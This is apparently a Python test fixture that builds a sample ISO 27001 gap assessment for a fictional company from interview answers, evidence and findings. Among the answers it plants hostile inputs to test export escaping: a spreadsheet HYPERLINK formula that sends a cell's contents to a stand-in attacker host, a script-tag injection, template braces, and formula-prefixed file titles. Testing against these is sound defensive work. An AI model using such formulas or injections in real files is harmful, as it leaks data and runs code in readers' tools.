"""An assessment as a company would have it, built through the ledger as the interview does, and one of everything."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from typing import Any

from bot.assessments.findings import Finding, Person
from bot.assessments.ledger import ledger_of
from bot.assessments.policy_quote import PolicyQuote
from bot.assessments.standing import Standing, standing_of
from bot.assessments.units import Form, Unit, units
from tests.exports.sample_findings import FINDINGS
from tests.exports.sample_people import ADA, JONAS, MARI, PRIYA, YAEL

ASSESSMENT = "GA-2026-01"
ON = date(2026, 11, 20)
BEGUN = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
HEAD = "8b0c6f5f3a0e4bb78a1b2b0d2d4a5e9f7c6d1e0f3a2b4c5d6e7f8091a2b3c4d5"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open the report")'
MARKUP = "We follow <b>all</b> of it <script>alert('x')</script> & more; see {{secret}} **really** <!channel>"
EMOJI = "Yes 👍 every quarter, “as agreed” … → done ✔ by the team 🧨"
HEBREW = "כן, אנחנו בודקים את הגיבויים פעם בחודש (restore test) והתוצאות נשמרות ביומן."
PASTED = "Copied from Word:\x0bthe plan is kept\x1b in the register.\tChecked monthly."
LONG = " ".join(
    f"Step {number}: we take the list of systems, ask each owner, and note who may still do what."
    for number in range(1, 60)
)[:4000]

SCOPE = [
    *("6.1.1.a", "6.1.2.a.1", "6.1.3.d", "6.1.3.e", "6.2.a", "6.3/p1"),
    *("9.1.a", "9.1.b", "9.2.1.b", "9.2.2.a", "9.2.2.b", "9.2.2.c", "9.3.1/p1", "9.3.2.a", "9.3.3/p1"),
    *("10.1/p1", "10.2.a.1", "10.2.d"),
    *("A.5.1", "A.5.15", "A.5.18", "A.5.19", "A.5.24", "A.8.5", "A.8.8", "A.8.13", "A.8.30", "A.8.33"),
]


@dataclass(frozen=True, slots=True)
class Happened:
    """One entry of a journal that lives in memory."""

    stream: str
    number: int
    kind: str
    data: Mapping[str, Any]
    person: str
    conversation: str
    at: datetime


class Story:
    """What happened, one thing after the other, some minutes apart."""

    def __init__(self, stream: str = ASSESSMENT) -> None:
        self.stream = stream
        self.entries: list[Happened] = []

    def add(self, kind: str, person: Person, **data: Any) -> int:
        number = len(self.entries) + 1
        at = BEGUN + timedelta(minutes=7 * number)
        data.setdefault("name", person.name)
        if kind in ("started", "finding", "concluded"):
            del data["name"]
        entry = Happened(self.stream, number, kind, data, person.id, f"slack:T1:{person.id}", at)
        self.entries.append(entry)
        return number

    def start(self, unit_ids: Sequence[str], scope: str, **more: Any) -> None:
        self.add(
            "started",
            ADA,
            title="Gap assessment before the stage 2 audit",
            organisation="Tarnwick Ltd",
            scope=scope,
            form=Form.FULL.value,
            units=list(unit_ids),
            criteria=[
                {"ref": "ISO/IEC 27001:2022", "version": "with Amd 1:2024"},
                {"ref": "Access Control Policy", "version": "3.2"},
                {"ref": "Backup Policy", "version": "2.0"},
            ],
            assessor={"id": ADA.id, "name": ADA.name},
            independence="Employed by Tarnwick in Finance; has no duty in any area assessed.",
            **more,
        )

    def say(self, unit: str, person: Person, value: str, text: str = "", **more: Any) -> int:
        link = f"https://tarnwick.slack.example/archives/C1/p{len(self.entries):010}"
        return self.add(
            "answered", person, unit=f"ISO27001:{unit}", value=value, text=text, link=link, **more
        )

    def follow(self, unit: str, person: Person, ask: str, text: str) -> None:
        self.add("followed_up", person, unit=f"ISO27001:{unit}", ask=ask, text=text)

    def show(self, number: int, unit: str, person: Person, **facts: Any) -> None:
        evidence = {"id": f"E-{number:04}", "unit": f"ISO27001:{unit}", **facts}
        evidence.setdefault("strength", "record")
        evidence.setdefault("method", "EXAMINE")
        self.add("evidence", person, evidence=evidence)

    def find(self, finding: Finding) -> None:
        self.add("finding", ADA, finding=finding.model_dump(mode="json"))


def _answers(story: Story) -> None:
    say = story.say
    say("6.1.1.a", PRIYA, "yes", "Risks from the context are in the register, reviewed by me each quarter.")
    say(
        "6.1.2.a.1", PRIYA, "yes", "The risk criteria are in the methodology, approved by the board in March."
    )
    say(
        "6.1.3.d",
        PRIYA,
        "partly",
        "The Statement of Applicability exists, but some justifications are missing.",
    )
    say("6.1.3.e", PRIYA, "yes", PASTED)
    say("6.2.a", PRIYA, "yes", "Objectives come from the policy; we measure them with three KPIs.")
    say("6.3/p1", JONAS, "dont_know", "I would have to ask the board.")
    say("9.1.a", JONAS, "yes", "The monitoring plan says what is measured; my team owns the dashboards.")
    say("9.1.b", JONAS, "yes", FORMULA)
    say("9.2.1.b", PRIYA, "yes", MARKUP)
    say("9.2.2.a", PRIYA, "no", "There is no audit programme for 2026; the last audit was in spring 2024.")
    say("9.2.2.b", MARI, "passed_on", "", to={"id": PRIYA.id, "name": PRIYA.name})
    say("9.3.1/p1", MARI, "yes", EMOJI)
    say("9.3.3/p1", MARI, "partly", "The meeting takes place; the minutes list topics and no decisions.")
    say("10.1/p1", PRIYA, "yes", LONG)
    say("10.2.a.1", PRIYA, "partly", "-2 of 9 nonconformities were corrected late.")
    say(
        "A.5.1", PRIYA, "yes", "All policies are approved by the Managing Director and published on the wiki."
    )
    say("A.5.15", JONAS, "yes", "Access rules are set per system; required by our customers and by the GDPR.")
    first = say("A.5.18", JONAS, "yes", "Access rights are reviewed every quarter.")
    say("A.5.18", MARI, "no", "Sales operations stopped the reviews in March 2026; nobody noticed.")
    say("A.5.18", JONAS, "partly", "I checked: sales was left out since March.", supersedes=first)
    say("A.5.19", MARI, "partly", "+1 to that: only new suppliers are looked at.")
    say("A.5.24", PRIYA, "yes", "@everyone knows the incident plan; it was exercised in June.")
    say("A.8.5", JONAS, "yes", "Multi-factor sign-in everywhere; the risk treatment plan asks for it.")
    say("A.8.8", JONAS, "partly", "Critical patches within a week, others when there is time.")
    say("A.8.13", YAEL, "yes", HEBREW)
    say("A.8.30", JONAS, "not_applicable", "All software is written by our own staff; nothing is outsourced.")
    story.add("skipped", JONAS, unit="ISO27001:A.8.33")
    story.follow("9.1.a", JONAS, "Who decides on the measures?", "The security board, every January.")
    story.follow("A.8.8", JONAS, "Which systems are behind?", "Two build servers and the printers.")


def _evidence(story: Story) -> None:
    show, digest = story.show, "3f6c1f0b9a7d4e5288c1d2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7"
    policy = {"kind": "document_quote", "path": "access-control.docx", "version": "3.2"}
    show(1, "A.5.18", JONAS, **policy, title="Access Control Policy", section="4.2 Reviews", page=4,
         quote="Owners review access rights every three months and record the outcome.")  # fmt: skip
    show(2, "A.5.18", JONAS, kind="file", title="Access review Q1 2026.xlsx", sha256=digest, size=48_213,
         path="files/access-review-q1.xlsx", evidence_date="2026-03-31", strength="verified_record")  # fmt: skip
    show(3, "9.2.2.a", PRIYA, kind="file", title="Internal audit report 2024.pdf", sha256=digest[::-1],
         size=1_204_881, evidence_date="2024-04-18", expires="2025-04-18")  # fmt: skip
    show(4, "9.3.3/p1", MARI, kind="link", title="Minutes of the management review, May 2026",
         link="https://wiki.tarnwick.example/mr/2026-05?a=1&b=<2>", evidence_date="2026-05-12")  # fmt: skip
    show(5, "A.5.18", MARI, kind="statement", strength="statement", method="INTERVIEW",
         title="Sales operations on access reviews", quote="We stopped in March, nobody asked.")  # fmt: skip
    show(6, "A.8.5", JONAS, kind="file", title="Sign-in configuration export.json", sha256=digest, size=9_120,
         evidence_date="2026-10-30", method="TEST", strength="verified_record")  # fmt: skip
    show(7, "A.8.13", YAEL, kind="file", title="יומן שחזור 2026-10.pdf", sha256=digest, size=220_118,
         evidence_date="2026-10-15")  # fmt: skip
    show(8, "9.1.a", JONAS, kind="link", title="Monitoring plan 2026", evidence_date="2026-01-20",
         link="https://wiki.tarnwick.example/monitoring", strength="verified_record")  # fmt: skip
    show(9, "6.2.a", PRIYA, kind="file", title="=SUM(A1:A9) objectives 2026.xlsx", sha256=digest, size=12_004,
         evidence_date="2026-02-02")  # fmt: skip
    show(10, "A.5.1", PRIYA, kind="link", title="Policy approval ticket ISMS-118", evidence_date="2026-02-10",
         link="https://tickets.tarnwick.example/ISMS-118")  # fmt: skip
    show(11, "9.1.b", JONAS, kind="file", title="Wrong file.png", size=3_311, sha256=digest)
    show(12, "10.2.a.1", PRIYA, kind="link", title="Nonconformity log", evidence_date="2026-09-30",
         link="https://tickets.tarnwick.example/NC")  # fmt: skip
    show(13, "A.8.8", JONAS, kind="file", title="Patch report October 2026.csv", sha256=digest, size=77_120,
         evidence_date="2026-10-31")  # fmt: skip
    show(14, "6.1.3.d", PRIYA, kind="document_quote", title="Statement of Applicability", version="2.1",
         path="soa.xlsx", section="Sheet 1", quote="A.5.7: applicable, justification to follow.")  # fmt: skip
    story.add("withdrawn", JONAS, id="E-0011", why="The wrong file was attached.")


def policies(unit: Unit) -> Sequence[PolicyQuote]:
    """What Tarnwick's own policies say on a unit."""
    known = {
        "ISO27001:A.5.15": ("Access Control Policy", "3.2", "4.1 Rules", "Access follows the need to know."),
        "ISO27001:A.5.18": (
            "Access Control Policy",
            "3.2",
            "4.2 Reviews",
            "Owners review access every quarter.",
        ),
        "ISO27001:A.8.13": ("Backup Policy", "2.0", "3 Restore tests", "Restores are tested each month."),
        "ISO27001:A.8.8": ("Patch Policy", "1.4", "2 Times", "Critical: 7 days. All others: 30 days."),
        "ISO27001:A.8.20": ("Network Policy", "1.0", "1 Zones", "Networks are separated by trust."),
    }.get(unit.id)
    if not known:
        return ()
    title, version, section, quote = known
    path = f"{title.lower().replace(' ', '-')}.md"
    return (PolicyQuote(title, version, section, path, quote, approved=date(2026, 1, 19)),)


@lru_cache(maxsize=1)
def standing() -> Standing:
    """28 units of clauses 6, 9 and 10 and of A.5 and A.8: findings of each grade and status, hostile texts among all."""
    story = Story()
    story.start([f"ISO27001:{unit}" for unit in SCOPE], "Clauses 6, 9 and 10; controls of A.5 and A.8")
    _answers(story)
    _evidence(story)
    for finding in FINDINGS:
        story.find(finding)
    conclusion = {
        "verdict": "not_yet_conform",
        "text": "The ISMS is planned well and run by people who know it. It is not audited and its review decides "
        "nothing: until both work, it cannot correct itself. Certification in spring is within reach.",
        "by": {"id": ADA.id, "name": ADA.name},
        "on": "2026-11-20",
    }
    story.add("concluded", ADA, conclusion=conclusion)
    return standing_of(ledger_of(story.entries), policies, ON, HEAD)


@lru_cache(maxsize=1)
def bare() -> Standing:
    """An assessment just begun: nothing answered, nothing shown, nothing found."""
    story = Story("GA-2026-02")
    story.start([unit.id for unit in units(Form.FULL) if unit.group == "4"], "Clause 4")
    return standing_of(ledger_of(story.entries), lambda _: (), ON)


@lru_cache(maxsize=3)
def whole(parts: int = 1) -> Standing:
    """The whole standard, every unit answered with words and shown with a record, a finding in every fifth.

    With `parts`, only the first of so many.
    """
    story = Story()
    everything = units(Form.FULL)
    everything = everything[: len(everything) // parts]
    story.start([unit.id for unit in everything], "The whole standard")
    for number, unit in enumerate(everything, start=1):
        name = unit.id.partition(":")[2]
        person = (PRIYA, JONAS, MARI)[number % 3]
        value = ("yes", "yes", "yes", "partly", "no", "yes", "dont_know")[number % 7]
        story.say(name, person, value, f"{LONG[: 100 + number]} ({number})")
        story.show(number, name, person, kind="file", title=f"Record {number}.pdf", evidence_date="2026-10-01",
                   sha256=f"{number:064x}", size=number * 1000)  # fmt: skip
        if number % 5 == 0:
            story.find(_repeated(number // 5, unit, number))
    return standing_of(ledger_of(story.entries), policies, ON, HEAD)


def _repeated(number: int, unit: Unit, evidence: int) -> Finding:
    like = FINDINGS[(number % 2) * 2]
    facts = {
        **like.model_dump(),
        "id": f"{ASSESSMENT}-F{number:02}",
        "unit": unit.id,
        "criteria": FINDINGS[1].criteria,
        "evidence": (f"E-{evidence:04}",),
    }
    return Finding(**facts)
